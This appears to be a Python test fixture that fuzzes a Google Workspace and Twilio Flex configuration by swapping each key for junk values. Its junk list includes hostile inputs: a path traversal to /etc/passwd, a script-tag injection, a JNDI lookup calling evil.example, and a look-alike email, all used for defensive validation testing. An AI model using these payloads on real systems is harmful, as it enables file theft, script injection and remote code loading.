"""Stack configurations with one value replaced by junk, at every key that there is."""

from __future__ import annotations

import copy
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterator

MAPPING = {
    "email": "Basic Information > Primary email",
    "full_name": "Flex Details > Full Name",
    "roles": "Flex Details > Roles",
}
WHOLE: dict[str, Any] = {
    "name": "Acme",
    "production": True,
    "google": {
        "customer": "C01sandbx",
        "domain": "acme.example",
        "admin": "admin@acme.example",
        "custom_schema": {
            "display_name": "Flex Details",
            "schema_name": "Flex_Details",
            "fields": {"team_id": {"display_name": "Team", "type": "STRING"}},
            "allow_data_loss": False,
            "retain": True,
        },
    },
    "flex": {
        "account_sid": "AC" + "5a" * 16,
        "generation": "enhanced",
        "connection": "JQ" + "ab" * 16,
        "runtime_domain": "acme-falcon-1234",
        "friendly_name": "Acme",
        "default_redirect_url": "https://flex.twilio.com/acme-falcon-1234",
        "trusted_domains": ["https://flex.acme.example"],
        "login_popup": True,
    },
    "saml_app": {
        "name": "Twilio Flex",
        "description": "Flex",
        "idp_metadata": "idp_metadata.xml",
        "spid": "836979955467",
        "attribute_mapping": MAPPING,
        "allow_any_idp_host": False,
    },
    "roles": {
        "mode": "additive",
        "file": "roles.csv",
        "people": {"ada@acme.example": {"roles": ["agent"]}},
        "groups": {"agents@acme.example": ["agent"]},
        "queries_per_minute": 2400,
    },
    "credentials": {
        "google": {"file": "google.json"},
        "twilio": {"key_env": "TWILIO_API_KEY", "secret_env": "TWILIO_API_SECRET"},
    },
    "handoff": {"writer": "console"},
}
JUNK: dict[str, Any] = {
    "null": None,
    "a number": 7,
    "a negative number": -1,
    "a fraction": 1.5,
    "yes": True,
    "no text": "",
    "a space": " ",
    "a list": [],
    "a list of lists": [[[]]],
    "an object": {},
    "an object of objects": {"": {"": {}}},
    "a long text": "x" * 70_000,
    "a path upwards": "../../../../etc/passwd",
    "a device": "/dev/zero",
    "a NUL": "a\0b",
    "a line break": "a\nb",
    "a lone surrogate": "\ud800",
    "markup": "<script>alert(1)</script>",
    "a template": "${jndi:ldap://evil.example/x}",
    "a look-alike": "аdmin@acme.example",  # noqa: RUF001  that is the point
}


def configurations() -> Iterator[tuple[str, Any]]:
    """(name, the object `tenant`): at each key each junk, and the whole thing as each junk."""
    for junk, value in JUNK.items():
        yield f"all of it is {junk}", value
    for path in paths(WHOLE):
        where = ".".join(path)
        for junk, value in JUNK.items():
            yield f"{where} is {junk}", replaced(path, value)
        yield f"{where} is missing", without(path)
        yield f"beside {where} is an unknown key", replaced((*path[:-1], "tpyo"), 1)


def paths(node: Any, *above: str) -> Iterator[tuple[str, ...]]:
    """All keys, from the outside in."""
    for key, value in node.items() if isinstance(node, dict) else ():
        yield (*above, key)
        yield from paths(value, *above, key)


def replaced(path: tuple[str, ...], value: Any) -> dict[str, Any]:
    """The whole configuration with another value at a path."""
    found = copy.deepcopy(WHOLE)
    node = found
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return found


def without(path: tuple[str, ...]) -> dict[str, Any]:
    """The whole configuration without a key."""
    found = copy.deepcopy(WHOLE)
    node = found
    for key in path[:-1]:
        node = node[key]
    del node[path[-1]]
    return found
